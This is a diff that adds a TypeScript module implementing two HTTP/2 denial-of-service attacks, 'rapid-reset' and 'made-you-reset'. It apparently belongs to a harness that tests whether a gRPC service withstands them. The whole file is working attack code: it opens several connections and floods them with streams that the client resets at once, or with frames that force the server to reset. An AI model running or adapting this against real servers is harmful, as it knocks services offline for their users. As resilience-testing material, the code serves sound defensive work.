@@ -1,0 +1,85 @@
+import type { Attacker } from '../attacker/attacker.ts';
+import { callHeaders, literal } from '../wire/hpack.ts';
+import { Http2Connection } from '../wire/http2-connection.ts';
+import {
+  dataFrame,
+  field,
+  grpcMessage,
+  headersFrame,
+  resetFrame,
+  windowUpdateFrame,
+} from '../wire/http2-frame.ts';
+import type { Attack } from './attack.ts';
+
+const connections = 8;
+const callsPerWrite = 50;
+const windowMax = 2 ** 31 - 1;
+const search = grpcMessage(field(1, 'a*'));
+
+/** The frames of one call, which ends at once by a reset: the client's, or one that it provokes. */
+type MakeCall = (stream: number, which: number) => readonly Buffer[];
+
+const rapidReset: MakeCall = (stream) => [
+  headersFrame(stream, callHeaders('/MessageService/Search')),
+  dataFrame(stream, search, true),
+  resetFrame(stream),
+];
+
+// Each breaks a rule for which HTTP/2 has the server reset the stream. [RFC 9113, 5.1, 6.9, 8.1.1]
+const provocations: readonly ((stream: number) => readonly Buffer[])[] = [
+  (stream) => [
+    headersFrame(stream, callHeaders('/MessageService/Search')),
+    windowUpdateFrame(stream, 0),
+  ],
+  (stream) => [
+    headersFrame(stream, callHeaders('/MessageService/Search')),
+    windowUpdateFrame(stream, windowMax),
+  ],
+  (stream) => [
+    headersFrame(stream, callHeaders('/MessageService/Search')),
+    dataFrame(stream, search, true),
+    dataFrame(stream, search, true),
+  ],
+  (stream) => [
+    headersFrame(stream, callHeaders('/MessageService/Search', literal('content-length', '1'))),
+    dataFrame(stream, search, true),
+  ],
+];
+
+const madeYouReset: MakeCall = (stream, which) =>
+  provocations[which % provocations.length]?.(stream) ?? [];
+
+async function resetForever(attacker: Attacker, makeCall: MakeCall): Promise<void> {
+  await attacker.keep(attacker.share(connections), async (which) => {
+    const connection = await Http2Connection.open(attacker);
+    if (connection === undefined) return undefined;
+    while (connection.isOpen && !attacker.isOver) {
+      const calls = Array.from({ length: callsPerWrite }, () =>
+        makeCall(connection.nextStream(), which),
+      );
+      await connection.write(...calls.flat());
+      attacker.count('calls', callsPerWrite);
+    }
+    connection.reset();
+    return true;
+  });
+}
+
+const bound = 'HTTP/2 ends a connection that resets more than 1,000 calls, and then 33 a second';
+
+export const resets: readonly Attack[] = [
+  {
+    name: 'rapid-reset',
+    family: 'http2',
+    does: 'searches that the client resets in the moment in which it asks',
+    heldBy: bound,
+    run: (attacker) => resetForever(attacker, rapidReset),
+  },
+  {
+    name: 'made-you-reset',
+    family: 'http2',
+    does: 'calls with frames for which the server has to reset them',
+    heldBy: 'a connection that breaks a rule is ended, or its streams are',
+    run: (attacker) => resetForever(attacker, madeYouReset),
+  },
+];
